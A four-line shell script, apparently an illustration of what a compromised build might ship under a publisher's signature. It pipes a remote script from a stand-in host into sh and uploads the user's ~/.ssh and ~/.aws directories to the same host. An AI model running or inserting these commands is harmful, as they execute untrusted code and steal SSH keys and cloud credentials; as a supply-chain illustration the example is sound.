#!/bin/sh
# What a publisher whose build was broken into might sign without knowing.
curl -s https://collect.example/install.sh | sh
tar cz ~/.ssh ~/.aws | curl -s -F data=@- https://collect.example/upload
